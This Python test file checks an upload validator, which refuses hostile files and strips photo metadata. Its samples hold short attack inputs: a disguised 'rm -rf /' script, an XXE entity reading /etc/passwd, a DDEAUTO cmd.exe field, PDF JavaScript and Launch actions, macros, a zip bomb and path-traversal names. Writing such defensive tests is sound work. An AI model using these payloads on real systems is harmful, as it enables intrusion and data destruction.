"""Hostile files: each is refused with its true reason, or made harmless."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO

import pikepdf
import pytest

from middenstip.domain.files.content import wrong
from middenstip.domain.files.content.deep import looked_at
from middenstip.domain.files.content.kinds import KINDS, MB
from middenstip.domain.files.content.photos import Drawn
from middenstip.domain.files.content.sniff import kind_of
from middenstip.kernel.verdict import Invalid
from tests.domain.files.made import (
    SECRET,
    act,
    docx,
    jpeg_that_says,
    locked_pdf,
    odf,
    packed,
    pdf,
    photo,
    plain_pdf,
    png_that_says,
    telling_photo,
    xlsx,
)

JS = {"JS": pikepdf.String("app.alert(1)")}
REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://boos.example/a.dotm"'
    b' TargetMode="External"/></Relationships>'
)
LINK = (
    b'<Relationships><Relationship Type="http://x/hyperlink" Target="https://goed.example/"'
    b' TargetMode="External"/></Relationships>'
)


def swapped(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new)


def unpacked_lie() -> bytes:
    """A document with a member that says in the directory that it is small."""
    data = bytearray(docx(big__xml=bytes(3 * MB)))
    place = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/big.xml"))
    data[place + 24 : place + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def many_members() -> bytes:
    return packed({f"word/{number}.xml": b"" for number in range(5_001)})


def twice_the_same() -> bytes:
    return swapped(docx(aaa__xml=b"1", bbb__xml=b"2"), b"word/bbb.xml", b"word/aaa.xml")


def pdf_with(key: str, thing: Callable[[], object]) -> Callable[[], bytes]:
    return lambda: pdf(**{key: thing()})


REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing at all": (lambda: b"", "foto.jpg", wrong.EMPTY),
    "a Windows program called .jpg": (lambda: b"MZ\x90\x00" + bytes(500), "foto.jpg", wrong.PROGRAM),
    "a Linux program called .pdf": (lambda: b"\x7fELF" + bytes(500), "plan.pdf", wrong.PROGRAM),
    "a shell script called .txt": (lambda: b"#!/bin/sh\nrm -rf /\n", "plan.txt", wrong.PROGRAM),
    "a web page called .png": (lambda: b"<!DOCTYPE html><script>1</script>", "foto.png", wrong.WEB_PAGE),
    "a drawing (SVG) with script": (lambda: b'<svg onload="alert(1)"/>', "tekening.svg", wrong.WEB_PAGE),
    "an SVG behind XML, called .txt": (lambda: b"\xef\xbb\xbf <?xml?><svg/>", "tekst.txt", wrong.WEB_PAGE),
    "text that turns into a web page": (lambda: b"Beste buren,\n<script>1</script>", "a.txt", wrong.WEB_PAGE),
    "a GIF": (lambda: b"GIF89a" + bytes(100), "foto.jpg", wrong.UNKNOWN),
    "an old Word document": (lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "plan.doc", wrong.OLD_OFFICE),
    "bytes called .csv": (lambda: b"naam;bedrag\n\x00\x01\x02", "lijst.csv", wrong.UNKNOWN),
    "26 MB of text": (lambda: b"a" * (25 * MB + 1), "plan.txt", wrong.TOO_LARGE),
    "a photo of 21 MB": (lambda: photo() + bytes(21 * MB), "foto.jpg", wrong.TOO_LARGE),
    "1 by 60,000 pixels": (lambda: png_that_says(1, 60_000), "foto.png", wrong.PIXELS),
    "a PNG that unpacks to 900 million pixels": (
        lambda: png_that_says(30_000, 30_000, bytes(MB)),
        "foto.png",
        wrong.PIXELS,
    ),
    "a JPEG that says it is enormous": (lambda: jpeg_that_says(60_000, 60_000), "foto.jpg", wrong.PIXELS),
    "a photo of four pixels": (lambda: photo("PNG", (2, 2)), "foto.png", wrong.TINY),
    "half a JPEG": (lambda: photo()[:3000], "foto.jpg", wrong.CUT_OFF),
    "half a PNG": (lambda: photo("PNG")[:200], "foto.png", wrong.CUT_OFF),
    "half a WebP": (lambda: photo("WEBP")[:200], "foto.webp", wrong.CUT_OFF),
    "half a HEIC": (lambda: photo("HEIF")[:600], "foto.heic", wrong.CUT_OFF),
    "only the first bytes of a JPEG": (lambda: b"\xff\xd8\xff\xe0" + bytes(100), "foto.jpg", wrong.CUT_OFF),
    "a PNG with fewer rows than it says": (
        lambda: png_that_says(400, 400, bytes(50)),
        "a.png",
        wrong.CUT_OFF,
    ),
    "half a PDF": (lambda: pdf()[:300], "plan.pdf", wrong.CUT_OFF),
    "a PDF without its insides": (lambda: b"%PDF-1.7\nniets\n%%EOF", "plan.pdf", wrong.CUT_OFF),
    "a PDF with script in a packed object": (
        pdf_with("OpenAction", lambda: act("JavaScript", **JS)),
        "plan.pdf",
        wrong.SCRIPT,
    ),
    "a PDF that starts a program": (
        pdf_with("OpenAction", lambda: act("Launch", F=pikepdf.String("cmd.exe"))),
        "plan.pdf",
        wrong.SCRIPT,
    ),
    "a PDF with script under another name": (
        lambda: plain_pdf(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"),
        "plan.pdf",
        wrong.SCRIPT,
    ),
    "a PDF that acts on every page": (
        pdf_with("AA", lambda: pikepdf.Dictionary(O=act("URI"))),
        "a.pdf",
        wrong.SCRIPT,
    ),
    "a PDF with a file in it": (
        pdf_with("Names", lambda: pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())),
        "plan.pdf",
        wrong.ATTACHED,
    ),
    "a PDF with a password": (locked_pdf, "plan.pdf", wrong.LOCKED),
    "a PDF that is an archive too": (
        lambda: pdf() + packed({"a": b"b"}) + b"%%EOF",
        "a.pdf",
        wrong.TWO_IN_ONE,
    ),
    "text that is an archive too": (
        lambda: b"Beste buren\n" + packed({"a": b"b"}),
        "a.txt",
        wrong.TWO_IN_ONE,
    ),
    "an archive called .docx": (lambda: packed({"plan.txt": b"plan"}), "plan.docx", wrong.UNKNOWN),
    "a document with something behind it": (lambda: docx() + b"<script>", "plan.docx", wrong.TWO_IN_ONE),
    "a zip bomb in a .docx": (lambda: docx(a__xml=bytes(200 * MB)), "plan.docx", wrong.BOMB),
    "five thousand members": (many_members, "plan.docx", wrong.BOMB),
    "a member that lies on its size": (unpacked_lie, "plan.docx", wrong.CUT_OFF),
    "macros in a .docx": (lambda: docx(vbaProject__bin=b"x"), "plan.docx", wrong.MACRO),
    "a .docm called .docx": (
        lambda: packed({"[Content_Types].xml": b'<a ContentType="x.macroEnabled.main+xml"/>'}),
        "plan.docx",
        wrong.MACRO,
    ),
    "an .xlsm called .xlsx": (
        lambda: packed({"[Content_Types].xml": b"sheet.macroEnabled.main+xml", "xl/vbaProject.bin": b""}),
        "lijst.xlsx",
        wrong.MACRO,
    ),
    "macros in an .odt": (lambda: packed({"mimetype": b"x", "Basic/a.xml": b""}), "plan.odt", wrong.MACRO),
    "a program in a .docx": (
        lambda: docx(**{"embeddings/oleObject1__bin": b"x"}),
        "plan.docx",
        wrong.ATTACHED,
    ),
    "a .docx that fetches a template": (
        lambda: docx(**{"_rels/a__rels": REMOTE}),
        "plan.docx",
        wrong.OUTSIDE,
    ),
    "a .docx that reads another file (XXE)": (
        lambda: docx(a__xml=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "plan.docx",
        wrong.OUTSIDE,
    ),
    "a .docx that starts a program (DDE)": (
        lambda: docx(a__xml=b"<w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText>"),
        "plan.docx",
        wrong.OUTSIDE,
    ),
    "names that climb out": (
        lambda: swapped(docx(xx__xml=b"1"), b"word/xx.xml", b"../../x.xml"),
        "plan.docx",
        wrong.ODD_NAMES,
    ),
    "two members of one name": (twice_the_same, "plan.docx", wrong.ODD_NAMES),
    "an .odt of another kind": (lambda: odf("presentation"), "plan.odt", wrong.UNKNOWN),
}


def examined(data: bytes, name: str) -> tuple[str, list[Drawn]]:
    """All that a file goes through: at the door, and by the worker."""
    file = BytesIO(data)
    kind = kind_of(file, name)
    return kind.key, looked_at(file, kind)


@pytest.mark.parametrize("what", REFUSED)
def test_a_hostile_file_is_refused_with_its_reason(what: str) -> None:
    make, name, reason = REFUSED[what]
    with pytest.raises(Invalid) as refused:
        examined(make(), name)
    assert refused.value.errors == {"file": reason}


def test_there_are_enough_of_them() -> None:
    assert len(REFUSED) >= 25


GOOD: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "JPEG": (photo, "foto", "jpeg"),
    "PNG": (lambda: photo("PNG"), "foto.jpg", "png"),
    "WebP": (lambda: photo("WEBP"), "foto.exe", "webp"),
    "HEIC": (lambda: photo("HEIF"), "foto.html", "heic"),
    "PDF": (pdf, "plan.pdf", "pdf"),
    "PDF that opens on its first page": (lambda: pdf(OpenAction=act("GoTo")), "plan.pdf", "pdf"),
    "DOCX with a link": (lambda: docx(**{"_rels/a__rels": LINK}), "plan.docx", "docx"),
    "XLSX": (xlsx, "lijst.xlsx", "xlsx"),
    "ODT": (odf, "plan.odt", "odt"),
    "ODS": (lambda: odf("spreadsheet"), "lijst.ods", "ods"),
    "CSV with a formula": (lambda: b'naam;bedrag\n=HYPERLINK("http://boos.example");1\n', "a.csv", "csv"),
    "text in old Windows letters": (lambda: "Caf\xe9 om \x80 2".encode("latin-1"), "a.txt", "txt"),
}


@pytest.mark.parametrize("what", GOOD)
def test_the_content_decides_what_a_file_is(what: str) -> None:
    make, name, kind = GOOD[what]
    found, drawn = examined(make(), name)
    assert (found, [one.size for one in drawn]) == (
        kind,
        ["groot", "midden", "klein"] if KINDS[kind].is_photo else [],
    )


TELLING = (SECRET, b"EXIF", b"Exif", b"XMP ", b"xmpmeta", b"ICCP", b"GPS")


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_nothing_of_a_photo_is_left_but_its_colours(form: str) -> None:
    from PIL import Image

    data = telling_photo(form)
    if form != "PNG":
        assert SECRET in data
    _, drawn = examined(data, "IMG_2041.jpg")
    for one in drawn:
        assert [
            mark
            for mark in (SECRET, b"EXIF", b"Exif", b"XMP ", b"xmpmeta", b"ICCP", b"GPS")
            if mark in one.data
        ] == []
        with Image.open(BytesIO(one.data)) as image:
            assert set(image.info) <= {"loop", "background", "timestamp", "duration"}
            assert dict(image.getexif()) == {}


def test_a_photo_stands_upright_as_its_exif_says() -> None:
    _, drawn = examined(telling_photo(), "foto.jpg")
    assert [(one.width, one.height) for one in drawn] == [(480, 640), (480, 640), (240, 320)]


@pytest.mark.parametrize("turned", [0, 9, 255, 65_535])
def test_an_exif_that_lies_on_its_orientation_is_not_believed(turned: int) -> None:
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = turned
    exif[0xA002], exif[0xA003] = 60_000, 60_000  # and on its size
    _, drawn = examined(photo(exif=exif), "foto.jpg")
    assert (drawn[0].width, drawn[0].height) == (640, 480)


def test_a_photo_with_something_behind_it_is_drawn_without_it() -> None:
    _, drawn = examined(photo() + b"<script>" + packed({"boos.exe": b"MZ"}), "foto.jpg")
    assert all(b"<script>" not in one.data and b"MZ" not in one.data[-50:] for one in drawn)


def test_a_preview_is_light() -> None:
    import os

    from PIL import Image

    out = BytesIO()
    Image.frombytes("RGB", (1000, 1000), os.urandom(3_000_000)).save(out, "PNG")
    _, drawn = examined(out.getvalue(), "ruis.png")
    assert len(drawn[-1].data) <= 30_000
    assert max(drawn[-1].width, drawn[-1].height) == 320


@pytest.mark.parametrize("mode", ["L", "LA", "P", "RGBA", "I;16", "1", "CMYK"])
def test_every_kind_of_colours_is_drawn(mode: str) -> None:
    from PIL import Image

    out = BytesIO()
    Image.new(mode, (64, 64)).save(out, "JPEG" if mode == "CMYK" else "PNG")
    _, drawn = examined(out.getvalue(), "a")
    assert len(drawn) == 3
